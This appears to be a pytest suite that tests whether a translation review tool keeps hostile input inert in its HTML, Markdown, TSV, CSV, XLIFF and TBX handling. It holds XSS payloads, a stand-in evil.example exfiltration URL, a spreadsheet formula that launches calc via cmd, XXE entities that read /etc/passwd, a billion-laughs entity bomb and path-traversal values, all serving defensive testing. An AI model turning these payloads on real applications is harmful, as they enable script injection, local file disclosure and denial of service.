"""Nothing injected: hostile article, result, glossary and XML text stays text in every output and input.

- HTML review page: a hostile result renders to exactly the same element/attribute structure as a harmless
  twin (so no payload opened an element, an attribute or a comment), every payload comes back verbatim as
  text or as the value of the attribute it was meant for, and both embedded JSON blocks parse back to the
  exact data (so `</script>`, `<!--` and U+2028 cannot break out). No URL in text becomes a link.
- Markdown is rendered by a CommonMark parser with raw HTML *allowed*: no payload becomes HTML, a link, an
  image or a table. TSV review rows keep their shape and no cell starts a spreadsheet formula; glossary files
  and their CSV export cannot hold a formula at all.
- XML in (TBX, XLIFF): DOCTYPEs, external entities (file:///etc/passwd), entity expansion bombs and external
  DTDs are refused with an error naming the file; XInclude is never followed.
- No value read from a glossary, result or XLIFF file is used as a path: only the paths on the command line
  are read or written.
"""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from click.testing import CliRunner
from markdown_it import MarkdownIt

from translate.cli import cli
from translate.errors import GlossaryError, InkuruError, InputError
from translate.glossary import Entry, Glossary
from translate.glossary.interchange import export_csv, import_tbx
from translate.result import ParagraphResult, Result, Segment, Signature
from translate.review import render
from translate.review.html import render_html
from translate.review.inputs import parse_result
from translate.review.view import entries_for
from translate.review.xliff import read_xliff, render_xliff

DATA = Path(__file__).resolve().parent / "review_data"
PASSWD_MARK = "root:x:0:0"

PAYLOADS = [
    "</script><script>alert(1)</script>",
    "<!--<script>alert(2)//",
    '"><img src=x onerror=alert(3)>',
    "' onmouseover='alert(4)' x='",
    "javascript:alert(5)",
    "https://evil.example/steal?c=1&d=<b>",
    "line\u2028sep\u2029para",
    "&lt;b&gt;already escaped&amp;",
    "</title></textarea></style><svg/onload=alert(6)>",
    "]]><![CDATA[<x>]]>",
    "[click](javascript:alert(7)) ![img](x) <javascript:alert(8)>",
    "a | b\n---|---\nc | d",
    "=HYPERLINK(\"http://evil.example\",\"x\")\t+cmd|' /C calc'!A0\n@SUM(1)\r-2+3",
]


def build(p: list[str]) -> tuple[Result, Glossary]:
    """A result and glossary carrying p[i] in every field a renderer shows (document, signature, source,
    target, terms, flags, glossary notes and renderings)."""
    source = f"{p[0]} Russia {p[2]} sent drones. {p[4]} {p[5]} {p[10]}\n{p[11]}"
    target = f"{p[1]} Uburusiya {p[3]} yohereje drones. {p[6]} {p[7]} {p[8]}"
    terms = [
        {"entry": "place.russia", "source_surface": "Russia", "target_surface": "Uburusiya", "status": "satisfied",
         "message": p[9], "source_span": None, "target_span": None},
        {"entry": p[2], "source_surface": p[0], "target_surface": p[1], "status": "missing", "message": p[3],
         "source_span": None, "target_span": None},
        {"entry": p[4], "source_surface": p[5], "target_surface": None, "status": "warning", "message": p[12]},
    ]
    paragraphs = [
        ParagraphResult(1, source, target, "en", "translated", terms, [f"missing_verbatim:{p[5]}", p[8]],
                        [Segment(source, target, [p[9]])]),
        ParagraphResult(2, p[12], p[12], "rw", "passed_through"),
        ParagraphResult(3, p[10], p[10], None, "kept", edited=True, approved=True),
    ]
    signature = Signature(p[0], p[1], p[2], p[3], 4, p[6], p[8])
    result = Result(p[8] + "../../evil.txt", "en", "rw", signature, paragraphs)
    glossary = Glossary((
        Entry("place.russia", "place", "approved", ("Russia", p[5]), ("Uburusiya", p[0]), (p[1],), note=p[2]),
        Entry(p[2], "term", "proposed", (p[3],), (p[4],), note=p[6] + p[9]),
        Entry(p[4], "term", "approved", (p[7],), (p[11],), note=p[12]),
    ))
    return result, glossary


HOSTILE = build(PAYLOADS)
HARMLESS = build([f"plain{i}" for i in range(len(PAYLOADS))])


class Page(HTMLParser):
    """The structure (tags, attribute names, comments) and the text and attribute values of a page."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.structure: list[tuple] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.text: list[str] = []
        self.stack: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.structure.append(("start", tag, tuple(name for name, _ in attrs)))
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        if tag not in ("meta", "br", "input"):
            self.stack.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.structure.append(("startend", tag, tuple(name for name, _ in attrs)))
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_endtag(self, tag):
        self.structure.append(("end", tag))
        if self.stack and self.stack[-1] == tag:
            self.stack.pop()

    def handle_comment(self, data):
        self.structure.append(("comment", data))

    def handle_decl(self, decl):
        self.structure.append(("decl", decl))

    def handle_pi(self, data):
        self.structure.append(("pi", data))

    def handle_data(self, data):
        if not (self.stack and self.stack[-1] in ("script", "style")):
            self.text.append(data)


def _page(pair: tuple[Result, Glossary]) -> str:
    return render_html(*pair)


def test_html_hostile_page_has_the_structure_of_a_harmless_one():
    hostile, harmless = Page(_page(HOSTILE)), Page(_page(HARMLESS))
    assert hostile.structure == harmless.structure
    page = _page(HOSTILE)
    for marker in ("<script", "</script", "<!--", "<img", "<svg", "<a ", "<textarea", "<style", "<![cdata["):
        assert page.lower().count(marker) == _page(HARMLESS).lower().count(marker), marker


def test_html_every_payload_comes_back_as_text_or_as_its_attribute():
    page = Page(_page(HOSTILE))
    text = "".join(page.text)
    for payload in PAYLOADS[:11]:  # the last two hold line breaks and tabs, which HTML text keeps but reflows
        assert payload in text or any(payload in value for _, _, value in page.attributes), payload
    marks = {value for tag, name, value in page.attributes if tag == "mark" and name == "data-entry"}
    assert {"place.russia", PAYLOADS[2]} <= marks
    messages = {value for tag, name, value in page.attributes if tag == "mark" and name == "data-message"}
    assert PAYLOADS[3] in messages
    assert PAYLOADS[8] + "../../evil.txt" in text  # the document name, in the heading and the <title>


def test_html_embedded_json_parses_back_to_the_exact_data():
    result, glossary = HOSTILE
    page = _page(HOSTILE)
    blocks = dict(re.findall(r'<script type="application/json" id="([^"]+)">(.*?)</script>', page, re.S))
    assert json.loads(blocks["inkuru-result"]) == result.to_dict()
    assert json.loads(blocks["inkuru-entries"]) == entries_for(result, glossary)
    for block in blocks.values():
        assert not re.search(r"<|>|&|\u2028|\u2029", block)


def test_html_urls_in_text_never_become_links():
    page = Page(_page(HOSTILE))
    url_attributes = [(t, n, v) for t, n, v in page.attributes
                      if n in ("href", "src", "action", "formaction", "srcdoc", "xlink:href", "background")]
    assert url_attributes == []
    scripted = {(t, n) for t, n, v in page.attributes if "javascript:" in v.lower()}
    assert scripted and all(n.startswith("data-") for _, n in scripted), scripted


def test_page_script_puts_text_in_the_dom_only_as_text():
    script = (Path(__file__).resolve().parent.parent / "translate" / "review" / "page.js").read_text(encoding="utf-8")
    for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function",
                 "setAttribute(\"href\"", "setAttribute('href'", ".src ="):
        assert sink not in script, sink
    assert "a.href = url" in script and "URL.createObjectURL" in script  # the one link: a blob of our own export


# --- Markdown and TSV ------------------------------------------------------------------------------------------


def _markdown_html(markdown: str) -> str:
    return MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough").render(markdown)


def test_markdown_payloads_stay_text_under_a_commonmark_renderer():
    rendered = _markdown_html(render(HOSTILE[0], "markdown"))
    page = Page(rendered)
    tags = {entry[1] for entry in page.structure if entry[0] in ("start", "startend")}
    assert tags <= {"h1", "h2", "p", "blockquote", "ul", "li", "em", "code", "br"}, tags
    assert page.attributes == []  # no link, image, or raw HTML attribute of any kind
    text = "".join(page.text)
    for payload in ("</script><script>alert(1)</script>", '"><img src=x onerror=alert(3)>', "<!--<script>alert(2)//",
                    "[click](javascript:alert(7)) ![img](x) <javascript:alert(8)>", "&lt;b&gt;already escaped&amp;"):
        assert payload in text, payload


def test_markdown_checker_would_see_raw_html():
    """The renderer above really passes raw HTML and links through, so the test above can fail."""
    page = Page(_markdown_html("<img src=x onerror=alert(1)> [a](javascript:alert(2))\n\na | b\n--|--\nc | d\n"))
    assert {"img", "table"} <= {entry[1] for entry in page.structure if entry[0] in ("start", "startend")}


def test_tsv_rows_keep_their_shape_and_no_cell_is_a_formula():
    lines = render(HOSTILE[0], "tsv").split("\n")
    assert lines[-1] == "" and len(lines) == 2 + len(HOSTILE[0].paragraphs)
    for line in lines[:-1]:
        cells = line.split("\t")
        assert len(cells) == 6 and "\r" not in line
        for cell in cells:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not re.match(r"-[^ ]", cell), cell


def test_glossary_cannot_hold_a_formula_so_its_csv_export_is_safe(tmp_path):
    with pytest.raises(GlossaryError, match="column 'note'.*starts with '='"):
        export_csv([Entry("place.iran", "place", "approved", ("Iran",), ("Irani",), note="=HYPERLINK(1)")])
    glossary = tmp_path / "g.tsv"
    glossary.write_text("id\ttype\tstatus\ten\trw\tnote\nplace.iran\tplace\tapproved\tIran\tIrani\t@SUM(1)\n",
                        encoding="utf-8")
    result = CliRunner().invoke(cli, ["glossary", "export", "--format", "csv", "--glossary", str(glossary)])
    assert result.exit_code == 1 and f"Error: {glossary}:2: column 'note': '@SUM(1)' starts with '@'" in result.output
    shipped = CliRunner().invoke(cli, ["glossary", "export", "--format", "csv"])
    cells = [cell for row in csv.reader(io.StringIO(shipped.stdout)) for cell in row]
    assert shipped.exit_code == 0 and len(cells) > 100
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


# --- XML input -------------------------------------------------------------------------------------------------


ATTACKS = {
    "external entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "billion laughs": '<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
                      '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
                      '<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">]>',
    "parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>',
    "external DTD": '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
    "plain DOCTYPE": "<!DOCTYPE x>",
}


def _with_doctype(xml: str, doctype: str) -> str:
    head, _, rest = xml.partition("?>\n")
    xml = f"{head}?>\n{doctype}\n{rest}"
    return xml.replace("<target>", "<target>&e;", 1).replace("<note>", "<note>&e;", 1)


def _tbx() -> str:
    return (DATA.parent / "glossary_data" / "mini.tsv").read_text(encoding="utf-8")


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_tbx_refuses_doctypes_and_entities_naming_the_file(attack):
    from translate.glossary.entries import parse_tsv
    from translate.glossary.interchange import export_tbx

    text = _with_doctype(export_tbx(parse_tsv(_tbx(), "mini.tsv")), ATTACKS[attack])
    with pytest.raises(GlossaryError) as info:
        import_tbx(text, "evil.tbx")
    assert str(info.value).startswith("evil.tbx:2: refusing TBX with a DOCTYPE")
    assert PASSWD_MARK not in str(info.value)


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_xliff_refuses_doctypes_and_entities_naming_the_file(attack, tmp_path):
    xliff = tmp_path / "evil.xlf"
    xliff.write_text(_with_doctype(render_xliff(_drones(), None), ATTACKS[attack]), encoding="utf-8")
    result = CliRunner().invoke(cli, ["review", str(xliff), "--format", "text"])
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert result.output.startswith(f"Error: {xliff}: DOCTYPE, entity declarations and external references are "
                                    "not accepted in XLIFF (line 2")
    assert PASSWD_MARK not in result.output


def test_xinclude_is_never_followed():
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    xliff = render_xliff(_drones(), None).replace("<target>", "<target>" + include, 1)
    assert PASSWD_MARK not in render(read_xliff(xliff, "x.xlf"), "text")
    from translate.glossary.entries import parse_tsv
    from translate.glossary.interchange import export_tbx

    tbx = export_tbx(parse_tsv(_tbx(), "mini.tsv")).replace("<term>", "<term>" + include, 1)
    entries = import_tbx(tbx, "x.tbx")
    assert entries and not any(PASSWD_MARK in json.dumps(e.to_dict()) for e in entries)


def _drones() -> Result:
    return parse_result((DATA / "drones.result.json").read_text(encoding="utf-8"), "drones.result.json")


def test_xliff_declared_encoding_does_not_re_decode_the_text():
    """A UTF-8 file declaring ISO-8859-1 came back as mojibake ('â\\x86\\x92'); an unknown one raised LookupError."""
    result = _drones()
    result.paragraphs[0].target = "Uburusiya → Irani, café"
    xliff = render_xliff(result, None)
    for declared in ("ISO-8859-1", "windows-1252", "x-no-such-encoding"):
        text = xliff.replace('encoding="UTF-8"', f'encoding="{declared}"', 1)
        assert read_xliff(text, "x.xlf").paragraphs[0].target == "Uburusiya → Irani, café"


@pytest.mark.parametrize(("edit", "message"), [
    (lambda x: x.replace("<target>", '<target><cp hex="zz"/>', 1), "x.xlf: <cp hex='zz'/> is not a Unicode"),
    (lambda x: x.replace("<target>", '<target><cp hex="D800"/>', 1), "x.xlf: <cp hex='D800'/> is not a Unicode"),
    (lambda x: x.replace("<target>", '<target><cp hex="110000"/>', 1), "is not a Unicode character"),
    (lambda x: re.sub(r'(<mda:meta type="paragraphs">)[^<]*', r'\1["p1"]', x, count=1),
     "x.xlf: the run metadata's 'paragraphs' must be a list of whole numbers"),
    (lambda x: re.sub(r'(<mda:meta type="paragraphs">)[^<]*', r"\g<1>7", x, count=1), "must be a list"),
    (lambda x: x.replace("<target>", "<target>\x00", 1), "x.xlf:"),
])
def test_bad_xliff_values_are_input_errors_not_tracebacks(edit, message):
    with pytest.raises(InputError) as info:
        read_xliff(edit(render_xliff(_drones(), None)), "x.xlf")
    assert message in str(info.value)


@pytest.mark.parametrize(("change", "message"), [
    (lambda d: d["paragraphs"][0].update(target="\ud800 lone"), "holds a lone surrogate"),
    (lambda d: d.update(document=["a", "list"]), "'document' must be text"),
    (lambda d: d.update(target_lang=7), "'target_lang' must be text"),
    (lambda d: d["paragraphs"][0].update(source_lang={"x": 1}), "paragraph 1: 'source_lang' must be text"),
])
def test_hand_edited_results_are_refused_before_rendering(tmp_path, change, message):
    data = json.loads((DATA / "drones.result.json").read_text(encoding="utf-8"))
    change(data)
    path = tmp_path / "edited.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    for fmt in ("html", "text", "xliff", "markdown"):
        result = CliRunner().invoke(cli, ["review", str(path), "--format", fmt, "-o", str(tmp_path / f"out.{fmt}")])
        assert result.exit_code == 1 and message in result.output and "Traceback" not in result.output


# --- paths come only from the command line ---------------------------------------------------------------------


def _tree(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*")}


def test_file_content_never_names_a_path_to_read_or_write(tmp_path, monkeypatch):
    """document, XLIFF original, glossary notes and sources naming paths: only the -o paths are written, and
    no file outside the inputs is read (the named 'secret' would show up in the output)."""
    work = tmp_path / "work"
    work.mkdir()
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP SECRET CONTENT", encoding="utf-8")
    monkeypatch.chdir(work)
    data = json.loads((DATA / "drones.result.json").read_text(encoding="utf-8"))
    data["document"] = "../secret.txt"
    data["paragraphs"][0]["source"] = f"See {secret} and file://{secret}"
    (work / "r.json").write_text(json.dumps(data), encoding="utf-8")
    glossary = work / "g.tsv"
    glossary.write_text("id\ttype\tstatus\ten\trw\tnote\tsource\nplace.russia\tplace\tapproved\tRussia\tUburusiya\t"
                        f"{secret}\t../secret.txt\n", encoding="utf-8")
    before = _tree(tmp_path)
    runner = CliRunner()
    outputs = []
    for fmt in ("html", "text", "xliff", "markdown", "tsv", "json"):
        out = work / f"out.{fmt}"
        result = runner.invoke(cli, ["review", "r.json", "--format", fmt, "-o", str(out), "--glossary", str(glossary)])
        assert result.exit_code == 0, result.output
        outputs.append(out)
    xliff = work / "out.xliff"
    xliff.write_text(xliff.read_text(encoding="utf-8").replace('original="', 'original="../secret.txt', 1),
                     encoding="utf-8")
    result = runner.invoke(cli, ["review", str(xliff), "--format", "text", "-o", str(work / "from-xliff.txt")])
    assert result.exit_code == 0, result.output
    outputs.append(work / "from-xliff.txt")
    assert _tree(tmp_path) == before | {str(p.relative_to(tmp_path)) for p in outputs}
    assert secret.read_text(encoding="utf-8") == "TOP SECRET CONTENT"
    assert not any("TOP SECRET" in p.read_text(encoding="utf-8") for p in outputs)


@pytest.mark.parametrize("cell", ["type", "id"])
def test_imported_entries_cannot_choose_the_file_they_are_written_to(tmp_path, cell):
    """`glossary import` writes to --into or to names.tsv/defense.tsv by a validated type, never to a path
    taken from the file; a type or id that looks like a path is an error."""
    from translate.glossary.entries import parse_tsv
    from translate.glossary.interchange import export_tbx

    tbx = export_tbx(parse_tsv(_tbx(), "mini.tsv")[:1])
    tbx = (tbx.replace(">place</descrip>", ">../../evil</descrip>") if cell == "type"
           else tbx.replace('id="place.russia"', 'id="../../evil"'))
    folder = tmp_path / "glossaries"
    folder.mkdir()
    (folder / "names.tsv").write_text(_tbx(), encoding="utf-8")
    source = tmp_path / "in.tbx"
    source.write_text(tbx, encoding="utf-8")
    before = _tree(tmp_path)
    result = CliRunner().invoke(cli, ["glossary", "import", str(source), "--glossary", str(folder)])
    assert result.exit_code == 1 and f"Error: {source}:" in result.output
    assert _tree(tmp_path) == before


def test_every_error_on_hostile_input_is_an_inkuru_error():
    """The renderers never raise on the hostile result (every format)."""
    for fmt in ("html", "markdown", "tsv", "xliff", "json", "text", "terminal"):
        try:
            render(HOSTILE[0], fmt, HOSTILE[1])
        except InkuruError as error:  # pragma: no cover - a failure message, not an expected path
            pytest.fail(f"{fmt}: {error}")
    back = read_xliff(render_xliff(*HOSTILE), "hostile.xlf")
    assert [p.source for p in back.paragraphs] == [p.source for p in HOSTILE[0].paragraphs]
    assert [p.target for p in back.paragraphs] == [p.target for p in HOSTILE[0].paragraphs]
